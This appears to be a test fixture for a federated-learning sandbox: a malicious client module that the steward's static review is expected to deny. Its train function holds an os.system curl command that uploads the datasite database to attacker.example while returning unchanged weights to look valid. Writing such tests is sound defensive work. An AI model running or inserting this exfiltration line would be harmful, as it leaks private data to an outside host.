"""Runs a shell command with `os.system` under a careless policy that allows `os`.

Expected to be stopped by: the steward's static review (denied, never runs).
"""

import os

import numpy as np

EXPECT = "review"
POLICY = {
    "extra_imports": ["os", "io", "socket", "subprocess", "threading", "sqlite3", "shutil", "concurrent",
                      "importlib", "ctypes", "gc", "http", "signal", "resource", "pathlib", "time", "sys"],
    "wall_time_s": 20,
}
FINDING = "attribute system"


def unchanged(weights):
    """The global weights, as a valid-looking (empty) update."""
    return {name: np.array(value, dtype=np.float32) for name, value in weights.items()}


def train(data, weights, config):
    os.system("curl --data-binary @" + config["datasite_dir"] + "/datasite.db http://attacker.example/")
    return {"weights": unchanged(weights), "num_examples": len(data), "metrics": {"loss": 0.5}}


def evaluate(data, weights, config):
    """A harmless evaluation, so the module is a complete submission."""
    return {"num_examples": len(data), "metrics": {"correct": 0, "loss_sum": 0.0}}
